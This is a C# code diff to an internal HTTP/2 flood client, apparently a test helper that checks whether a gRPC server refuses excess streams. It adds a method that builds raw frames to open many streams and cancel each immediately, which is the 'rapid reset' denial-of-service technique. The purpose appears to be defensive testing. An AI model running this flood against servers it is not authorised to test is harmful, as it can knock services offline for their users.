@@ -43,15 +43,14 @@ internal static class FloodClient
         using SslStream connection = (await ConnectAsync(address))!;
         Task refused = ReadToRefusalAsync(connection);
         await connection.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
-        await connection.WriteAsync(new byte[] { 0, 0, 0, 4, 0, 0, 0, 0, 0 });
+        await connection.WriteAsync(Frame(type: 4, flags: 0, stream: 0, []));
         byte[] block = HeaderBlock(address.Authority, path);
         try
         {
             for (int i = 0; i < streams; i++)
             {
                 int stream = (2 * i) + 1;
-                byte[] frame = [0, (byte)(block.Length >> 8), (byte)block.Length, 1, 4, (byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream, .. block];
-                await connection.WriteAsync(frame);
+                await connection.WriteAsync(Frame(type: 1, flags: 4, stream, block));
             }
         }
         catch (IOException)
@@ -60,6 +59,31 @@ internal static class FloodClient
         }
 
         await refused;
+    }
+
+    /// <summary>Opens streams on one connection and takes each back at once; ends when the server has read all of them, or has cut the connection.</summary>
+    public static async Task ResetStreamsAsync(Uri address, string path, int streams)
+    {
+        using SslStream connection = (await ConnectAsync(address))!;
+        Task answered = ReadToAnswerAsync(connection);
+        byte[] block = HeaderBlock(address.Authority, path);
+        List<byte> flood = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(type: 4, flags: 0, stream: 0, [])];
+        for (int i = 0; i < streams; i++)
+        {
+            int stream = (2 * i) + 1;
+            flood.AddRange([.. Frame(type: 1, flags: 4, stream, block), .. Frame(type: 3, flags: 0, stream, [0, 0, 0, 8])]);
+        }
+
+        try
+        {
+            await connection.WriteAsync((byte[])[.. flood, .. Frame(type: 6, flags: 0, stream: 0, new byte[8])]);
+        }
+        catch (IOException)
+        {
+            // Cut already.
+        }
+
+        await answered;
     }
 
     /// <summary>Calls on new connections until one is served.</summary>
@@ -91,12 +115,22 @@ internal static class FloodClient
     private static byte[] HeaderBlock(string authority, string path) =>
         [0x83, 0x87, .. Literal(4, path), .. Literal(1, authority), 0x0f, 0x10, .. Text("application/grpc")];
 
+    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload) =>
+        [0, (byte)(payload.Length >> 8), (byte)payload.Length, type, flags, (byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream, .. payload];
+
     private static byte[] Literal(byte name, string value) => [name, .. Text(value)];
 
     private static byte[] Text(string value) => [(byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
 
     /// <summary>Reads frames until a stream is refused (RST_STREAM with REFUSED_STREAM or ENHANCE_YOUR_CALM) or the connection is closed, which refuses all.</summary>
-    private static async Task ReadToRefusalAsync(SslStream stream)
+    private static Task ReadToRefusalAsync(SslStream stream) => ReadUntilAsync(stream, static frame => frame is { Type: 3, First: 7 or 11 });
+
+    /// <summary>Reads frames until a ping is answered or the connection is closed.</summary>
+    private static Task ReadToAnswerAsync(SslStream stream) => ReadUntilAsync(stream, static frame => frame is { Type: 6, Flags: 1 });
+
+    /// <param name="stream">The connection.</param>
+    /// <param name="isLast">Type, flags, and the last byte of the first four of a frame: of an error the number.</param>
+    private static async Task ReadUntilAsync(SslStream stream, Func<(byte Type, byte Flags, byte First), bool> isLast)
     {
         byte[] frame = new byte[64 * 1024];
         try
@@ -105,9 +139,9 @@ internal static class FloodClient
             {
                 await stream.ReadExactlyAsync(frame.AsMemory(0, 9));
                 int length = (frame[0] << 16) | (frame[1] << 8) | frame[2];
-                byte type = frame[3];
+                (byte type, byte flags) = (frame[3], frame[4]);
                 await stream.ReadExactlyAsync(frame.AsMemory(0, length));
-                if (type == 3 && frame[3] is 7 or 11)
+                if (isLast((type, flags, frame[3])))
                 {
                     return;
                 }
